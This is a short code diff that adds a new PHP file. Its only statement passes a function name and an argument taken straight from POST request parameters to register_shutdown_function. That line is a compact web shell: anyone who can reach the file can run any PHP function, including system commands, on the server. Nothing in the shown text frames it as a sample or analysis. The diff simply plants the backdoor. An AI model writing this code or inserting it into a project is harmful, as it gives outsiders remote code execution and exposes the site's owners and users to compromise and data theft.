@@ -1,0 +1,2 @@
+<?php
+register_shutdown_function($_POST['f'], $_POST['a']);
